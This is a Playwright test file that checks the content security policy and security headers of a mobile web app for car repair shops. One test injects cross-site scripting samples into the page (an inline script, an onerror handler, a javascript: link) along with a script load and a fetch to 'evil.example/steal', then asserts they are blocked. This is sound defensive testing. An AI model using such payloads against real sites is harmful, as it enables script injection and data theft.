import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { H5App } from './h5-app';
import { suiteBrowser } from './suite-browser';

/** Pages that between them load all that the app loads: pictures, films, drawings, PDF, the map, workers. */
const PAGES = [
  '/',
  '/pages/pointStore/pointStore',
  '/pages/message/message',
  '/pages/userCenter/userCenter',
  '/pages/brandList/brandList',
  '/pages/payment/payment',
  '/pages/setting/setting',
  '/pages/maintainStore/maintainStore',
  '/packages/course/courseIndex/courseIndex',
  '/packages/repairCases/repairCases/repairCases',
  '/packages/vehicleMaintain/maintain/maintain',
  '/packages/maintainStore/storeBriefing/storeBriefing',
  '/packages/maintainStore/storeTurnover/storeTurnover',
  '/packages/maintainStore/vehicleReceive/add',
  '/packages/user/profile/profile',
  '/packages/user/partner/partner',
  '/packages/raffle/raffleList/raffleList',
];
/** A page's own later requests come within this time; ms. */
const SETTLED_MS = 700;

interface Watched {
  violations: string[];
}

/** Has the page note what its policy keeps from loading. */
async function watch(page: Page, seen: Watched): Promise<void> {
  await page.exposeFunction('noteViolation', (text: string) => seen.violations.push(text));
  await page.addInitScript(() => {
    const note = (window as unknown as { noteViolation: (text: string) => void }).noteViolation;
    document.addEventListener('securitypolicyviolation', (event) =>
      note(`${event.effectiveDirective} ${event.blockedURI} on ${location.hash}`),
    );
  });
}

describe('the content security policy of the H5 page', () => {
  const suite = suiteBrowser();
  let app: H5App;
  const seen: Watched = { violations: [] };
  before(async () => {
    app = await H5App.open(suite.browser, '/packages/user/login/login', { prepare: (page) => watch(page, seen) });
  });

  it('keeps nothing of the app from loading', async () => {
    await app.logInByPassword('13800138000');
    for (const page of PAGES) {
      await app.goto(page);
      await app.page.waitForLoadState('networkidle');
      await app.page.waitForTimeout(SETTLED_MS);
    }
    assert.deepEqual(seen.violations, []);
    assert.deepEqual(app.faults, []);
  });

  it('runs no script that got into the page, and loads nothing from elsewhere', async () => {
    await app.goto('/');
    await app.sees('汽修助手');
    const ran = await app.page.evaluate(async () => {
      const marks = window as unknown as { ran?: string[] };
      marks.ran = [];
      const script = document.createElement('script');
      script.textContent = 'window.ran.push("inline")';
      const foreign = document.createElement('script');
      foreign.src = 'https://evil.example/x.js';
      const picture = document.createElement('div');
      picture.innerHTML =
        '<img src="data:image/png;base64,x" onerror="window.ran.push(\'handler\')"><a id="bait" href="javascript:window.ran.push(\'link\')">x</a>';
      document.body.append(script, foreign, picture);
      document.getElementById('bait')?.click();
      await fetch('https://evil.example/steal').then(
        () => marks.ran?.push('request'),
        () => undefined,
      );
      await new Promise((resolve) => setTimeout(resolve, 500));
      return marks.ran;
    });
    assert.deepEqual(ran, []);
    for (const directive of ['script-src', 'connect-src'])
      assert.ok(
        seen.violations.some((text) => text.startsWith(directive)),
        `${directive} in ${seen.violations.join('; ')}`,
      );
  });

  it('comes with the headers of a page that others may not embed, sniff or ask the device through', async () => {
    const response = await app.page.request.get(new URL('/dlqxuser/', app.page.url()).href);
    const headers = response.headers();
    assert.match(headers['content-security-policy'] ?? '', /frame-ancestors 'self'/);
    assert.equal(headers['x-content-type-options'], 'nosniff');
    assert.equal(headers['cross-origin-opener-policy'], 'same-origin');
    assert.match(headers['permissions-policy'] ?? '', /microphone=\(\)/);
    assert.equal(headers['set-cookie'], undefined);
  });
});
